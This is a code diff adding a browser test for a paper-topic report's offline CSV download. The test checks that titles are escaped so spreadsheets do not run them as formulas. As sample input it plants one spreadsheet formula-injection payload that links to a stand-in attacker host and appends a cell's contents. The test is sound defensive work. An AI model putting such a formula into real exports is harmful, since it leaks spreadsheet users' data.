@@ -486,6 +486,51 @@ def test_overview_has_a_card_per_topic_and_the_outliers(browser, small_report):
 
 
 @pytest.mark.browser
+def test_a_topic_card_downloads_its_papers_as_csv_offline(browser, tmp_path_factory):
+    """The card's button builds the CSV from the map's data files (no server); a title that a
+    spreadsheet would run as a formula gets a leading apostrophe, quotes and newlines survive."""
+    import csv
+    import io
+
+    from report_sample import sample_inputs
+
+    from papertopics.report import render_report
+
+    inputs = sample_inputs(n_documents=60, n_topics=3)
+    documents = inputs.documents.copy()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    documents.loc[0, "title"] = hostile
+    documents.loc[0, "text"] = 'Quotes "inside", commas,\nand a line break. ' + documents.loc[0, "text"]
+    inputs = dataclasses.replace(inputs, documents=documents)
+    folder = tmp_path_factory.mktemp("csv") / "report"
+    render_report(inputs, folder)
+    topic = int(documents.loc[0, "topic"])
+    page, _ = open_page(browser, folder, "index")
+    try:
+        text = page.evaluate(f"papertopicsTopicCsv({topic})")
+        rows = list(csv.reader(io.StringIO(text)))
+        assert rows[0] == ["topic", "name", "doc_id", "title", "url", "abstract"]
+        mine = documents[documents["topic"] == topic]
+        assert [row[2] for row in rows[1:]] == mine["doc_id"].tolist()
+        label = inputs.topics.set_index("topic").loc[topic, "label"]
+        assert {(row[0], row[1]) for row in rows[1:]} == {(str(topic), label)}
+        first = rows[1 + mine["doc_id"].tolist().index(documents.loc[0, "doc_id"])]
+        assert first[3] == "'" + hostile
+        assert first[4] == documents.loc[0, "url"]
+        assert first[5] == documents.loc[0, "text"]
+        # the button itself: it downloads and comes back, with nothing fetched from outside
+        button = f"document.querySelector('button[data-csv-topic=\"{topic}\"]')"
+        label_before = page.evaluate(f"{button}.textContent")
+        assert label_before == f"Download its {len(mine)} papers (CSV)"
+        page.evaluate(f"{button}.click()")
+        page.wait_for(f"!{button}.disabled && {button}.textContent === {json.dumps(label_before)}")
+        assert page.errors == []
+        assert local_only(page.requests, folder) == []
+    finally:
+        page.close()
+
+
+@pytest.mark.browser
 def test_changes_page_lists_every_topic_and_links_to_the_map(browser, small_report):
     inputs, folder = small_report
     page, _ = open_page(browser, folder, "changes")
